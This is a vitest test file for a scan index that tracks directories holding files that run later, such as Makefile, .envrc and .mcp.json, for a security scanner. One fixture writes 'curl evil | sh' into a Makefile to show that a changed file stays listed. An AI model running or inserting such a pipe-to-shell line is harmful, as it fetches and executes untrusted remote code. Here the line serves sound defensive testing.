/**
 * The index of the scan of what runs later (exec/scan-index.ts): which directories a later run
 * reads again, what it keeps of their entries, and where it refuses to trust what it saved (racy
 * directories, other roots, a damaged or foreign file, a change too large).
 */
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  dirIdentity,
  indexFileFor,
  indexOf,
  loadIndex,
  refreshIndex,
  saveIndex,
  type ScanIndex,
} from '../../../src/exec/scan-index.js';
import { isListed } from '../../../src/exec/runs-later.js';
import { findRecordsOf, identitiesSince } from '../../../src/exec/find-records.js';
import { identitiesNow } from '../../../src/exec/scan-listing.js';
import { makeScratchDir } from '../../support/cli.js';

/** A tree: root/a/Makefile, root/a/x.ts, root/b/c/.mcp.json, root/b/y.ts. */
function tree(): { root: string; index: ScanIndex } {
  const root = makeScratchDir('scan-index-', 0o755);
  mkdirSync(join(root, 'a'));
  mkdirSync(join(root, 'b', 'c'), { recursive: true });
  writeFileSync(join(root, 'a', 'Makefile'), 'all:\n');
  writeFileSync(join(root, 'a', 'x.ts'), 'x');
  writeFileSync(join(root, 'b', 'c', '.mcp.json'), '{}');
  writeFileSync(join(root, 'b', 'y.ts'), 'y');
  const dirs = new Map(
    [root, join(root, 'a'), join(root, 'b'), join(root, 'b', 'c')].map((dir) => [dir, dirIdentity(dir) ?? '']),
  );
  return { root, index: indexOf([join(root, 'a', 'Makefile'), join(root, 'b', 'c', '.mcp.json')], dirs) };
}

const listedOf = (index: ScanIndex | undefined) => [...(index?.listed.values() ?? [])].flat().sort();

describe('refreshIndex', () => {
  it('reads no directory when nothing changed, and keeps what was listed (a file changed in place stays listed)', () => {
    const { root, index } = tree();
    writeFileSync(join(root, 'a', 'Makefile'), 'all:\n\tcurl evil | sh\n');
    const fresh = refreshIndex(index, isListed);
    expect(fresh?.reread).toBe(0);
    expect(listedOf(fresh)).toEqual([join(root, 'a', 'Makefile'), join(root, 'b', 'c', '.mcp.json')]);
  });

  it('reads a directory whose entries changed, a new directory whole, and drops a removed one with what it held', () => {
    const { root, index } = tree();
    writeFileSync(join(root, 'a', '.envrc'), 'export X=1\n');
    mkdirSync(join(root, 'a', 'new', 'deep'), { recursive: true });
    writeFileSync(join(root, 'a', 'new', 'deep', '.bash_login'), 'evil\n');
    rmSync(join(root, 'b', 'c'), { recursive: true });
    const fresh = refreshIndex(index, isListed);
    expect(listedOf(fresh)).toEqual(
      [join(root, 'a', '.envrc'), join(root, 'a', 'Makefile'), join(root, 'a', 'new', 'deep', '.bash_login')].sort(),
    );
    expect([...(fresh?.dirs.keys() ?? [])].sort()).toEqual(
      [root, join(root, 'a'), join(root, 'a', 'new'), join(root, 'a', 'new', 'deep'), join(root, 'b')].sort(),
    );
  });

  it.each([
    ['a file the scan does not list, added', (root: string) => writeFileSync(join(root, 'a', 'z.ts'), ''), false],
    ['a listed file, added', (root: string) => writeFileSync(join(root, 'b', '.envrc'), ''), true],
    ['a listed file, removed', (root: string) => rmSync(join(root, 'a', 'Makefile')), true],
    ['a directory, added', (root: string) => mkdirSync(join(root, 'b', 'd')), true],
    ['a directory, removed', (root: string) => rmSync(join(root, 'b', 'c'), { recursive: true }), true],
  ])('says whether the tree was reshaped or only identities changed: %s', (_, change, isReshaped) => {
    const { root, index } = tree();
    change(root);
    const fresh = refreshIndex(index, isListed);
    expect(fresh?.reread).toBeGreaterThan(0);
    expect(fresh?.isReshaped).toBe(isReshaped);
  });

  it('a directory renamed within the tree is read whole at its new path (its entries there are new)', () => {
    const { root, index } = tree();
    renameSync(join(root, 'b'), join(root, 'moved'));
    const fresh = refreshIndex(index, isListed);
    expect(listedOf(fresh)).toEqual([join(root, 'a', 'Makefile'), join(root, 'moved', 'c', '.mcp.json')]);
  });

  it("find's identities (one process beside exec, then again from the same shell) are Node's own, and a directory missing from them counts as gone", async () => {
    const { root, index } = tree();
    const dirs = [...index.dirs.keys(), join(root, 'not-there')];
    const { identities, shell } = identitiesNow(dirs, makeScratchDir('scan-work-'));
    const now = await identities;
    expect(now).toEqual(new Map([...index.dirs.keys()].map((dir) => [dir, dirIdentity(dir)])));
    // The restat after the child: a directory changed meanwhile has its new identity, one removed has none.
    writeFileSync(join(root, 'a', 'new-file'), '');
    rmSync(join(root, 'b', 'c'), { recursive: true });
    const again = (await shell.restat(dirs))?.identities;
    expect(again).toEqual(new Map([root, join(root, 'a'), join(root, 'b')].map((dir) => [dir, dirIdentity(dir)])));
    expect(again?.get(join(root, 'a'))).not.toBe(now?.get(join(root, 'a')));
    expect(await shell.restat(dirs)).toBeUndefined();
    const without = new Map(now);
    without.delete(join(root, 'b', 'c'));
    expect(listedOf(refreshIndex(index, isListed, Number.POSITIVE_INFINITY, without))).toEqual([
      join(root, 'a', 'Makefile'),
    ]);
  });

  it("a restat of the same directories reads only find's records that changed, and gives every identity as Node does", async () => {
    const { root, index } = tree();
    const dirs = [...index.dirs.keys()];
    const { identities, shell } = identitiesNow(dirs, makeScratchDir('scan-work-'));
    const now = await identities;
    writeFileSync(join(root, 'a', 'new-file'), '');
    rmSync(join(root, 'b', 'c'), { recursive: true });
    mkdirSync(join(root, 'b', 'c'));
    const again = (await shell.restat([...dirs]))?.identities;
    expect(again).toEqual(new Map(dirs.map((dir) => [dir, dirIdentity(dir)])));
    for (const dir of [join(root, 'a'), join(root, 'b', 'c')]) expect(again?.get(dir)).not.toBe(now?.get(dir));
  });

  it('an answer read against an earlier one: unchanged records kept, a changed one read, another count of records read whole', () => {
    const records = ['d 1 2 3.4000000000 /p', 'd 1 5 3.4000000000 /p/a', 'd 1 6 3.4000000000 /p/b'];
    const text = `${records.join('\0')}\0`;
    const since = { list: '/p\0/p/a\0/p/b\0', text, identities: findRecordsOf(text).dirs };
    const dirs = ['/p', '/p/a', '/p/b'];
    expect(identitiesSince(text, dirs, since)).toEqual(since.identities);
    const changed = text.replace('d 1 5 3.4000000000 /p/a', 'd 1 7 9.0000000010 /p/a');
    expect(identitiesSince(changed, dirs, since)).toEqual(findRecordsOf(changed).dirs);
    const fewer = `${[records[0], records[2]].join('\0')}\0`;
    expect(identitiesSince(fewer, dirs, since)).toEqual(
      new Map([
        ['/p', '1 2 3400000000'],
        ['/p/b', '1 6 3400000000'],
      ]),
    );
  });

  it("reads find's records as dirIdentity gives them: any path, a link, ctime digits past the ninth, malformed records skipped", () => {
    const records = [
      'd 65024 12 1795974774.8783454700 /p/with space\nand newline',
      'l /p/a link',
      'd 7 8 0.0000000010 /p/zero',
      'd 7 8 5.5 /p/short fraction',
      'd x 8 1.0 /p/bad device',
      'd 7 8 1.0',
      'd 7 8 1 /p/no fraction',
    ];
    expect(findRecordsOf(`${records.join('\0')}\0`)).toEqual({
      dirs: new Map([
        ['/p/with space\nand newline', '65024 12 1795974774878345470'],
        ['/p/zero', '7 8 1'],
        ['/p/short fraction', '7 8 5500000000'],
      ]),
      links: ['/p/a link'],
    });
  });

  it('gives up (undefined) past its budget of entries, so the scan lists every file instead', () => {
    const { root, index } = tree();
    mkdirSync(join(root, 'a', 'node_modules'));
    for (let i = 0; i < 50; i++) writeFileSync(join(root, 'a', 'node_modules', `f${i}`), '');
    expect(refreshIndex(index, isListed, 40)).toBeUndefined();
    expect(refreshIndex(index, isListed, 1_000)).toBeDefined();
  });
});

describe('saveIndex and loadIndex', () => {
  it('saved 0600 in a 0700 directory and loaded again for the same roots only; a damaged file is no index', () => {
    const { root, index } = tree();
    const runtime = makeScratchDir('scan-runtime-');
    const file = indexFileFor(runtime, [root], 'globs');
    expect(indexFileFor(runtime, [root], 'other globs')).not.toBe(file);
    saveIndex(file, [root], index, Date.now() + 60_000);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(join(runtime, 'scan-index')).mode & 0o777).toBe(0o700);
    expect(loadIndex(file, [root])?.dirs.get(join(root, 'a'))).toBe(index.dirs.get(join(root, 'a')));
    expect(loadIndex(file, [root, '/elsewhere'])).toBeUndefined();
    writeFileSync(file, readFileSync(file, 'utf8').slice(0, 40));
    expect(loadIndex(file, [root])).toBeUndefined();
  });

  it('keeps the 100 indexes written last: the oldest go as others are saved', () => {
    const { root, index } = tree();
    const runtime = makeScratchDir('scan-runtime-');
    const first = indexFileFor(runtime, [root], 'globs 0');
    for (let i = 0; i <= 100; i++) {
      const file = indexFileFor(runtime, [root], `globs ${i}`);
      saveIndex(file, [root], index, Date.now());
      utimesSync(file, 1_000 + i, 1_000 + i);
    }
    saveIndex(indexFileFor(runtime, [root], 'the newest'), [root], index, Date.now());
    expect(readdirSync(join(runtime, 'scan-index'))).toHaveLength(100);
    expect(existsSync(first)).toBe(false);
  });

  it("an index saved with find's answer: the next run's answer read against it gives Node's identities, a changed directory's new one, and a racy directory is read again", async () => {
    const { root, index } = tree();
    const runtime = makeScratchDir('scan-runtime-');
    const file = indexFileFor(runtime, [root], 'globs');
    const dirs = [...index.dirs.keys()];
    const first = identitiesNow(dirs, makeScratchDir('scan-work-'));
    await first.identities;
    const answer = await first.shell.restat(dirs);
    saveIndex(file, [root], index, Date.now() + 60_000, answer?.text);
    const saved = loadIndex(file, [root]);
    expect(saved?.found).toBe(answer?.text);
    writeFileSync(join(root, 'a', 'new-file'), '');
    const earlier = { text: saved?.found ?? '', identities: saved?.dirs ?? new Map<string, string>() };
    const next = identitiesNow(dirs, makeScratchDir('scan-work-'), earlier);
    const now = await next.identities;
    next.shell.end();
    expect(now).toEqual(new Map(dirs.map((dir) => [dir, dirIdentity(dir)])));
    expect(now?.get(join(root, 'a'))).not.toBe(index.dirs.get(join(root, 'a')));
    expect(refreshIndex(saved ?? index, isListed, Number.POSITIVE_INFINITY, now)?.reread).toBe(1);
    // Saved as read "now", every directory is racy: an unchanged record still gives no trusted identity.
    saveIndex(file, [root], { ...index, dirs: new Map(now ?? []) }, Date.now(), answer?.text);
    const racy = loadIndex(file, [root]);
    const again = identitiesNow(dirs, makeScratchDir('scan-work-'), {
      text: racy?.found ?? '',
      identities: racy?.dirs ?? new Map<string, string>(),
    });
    const ids = await again.identities;
    again.shell.end();
    expect(refreshIndex(racy ?? index, isListed, Number.POSITIVE_INFINITY, ids)?.reread).toBe(dirs.length);
  });

  it('a directory changed within 2 s of the scan that read it is never trusted: the next run reads it again', () => {
    const { root, index } = tree();
    const runtime = makeScratchDir('scan-runtime-');
    const file = indexFileFor(runtime, [root], 'globs');
    // Read "now": every directory was just made, so each is racy (a change in the same clock tick keeps its ctime).
    saveIndex(file, [root], index, Date.now());
    const racy = loadIndex(file, [root]);
    expect(refreshIndex(racy ?? index, isListed)?.reread).toBe(index.dirs.size);
    // Read a minute later: all trusted.
    saveIndex(file, [root], index, Date.now() + 60_000);
    expect(refreshIndex(loadIndex(file, [root]) ?? index, isListed)?.reread).toBe(0);
  });
});
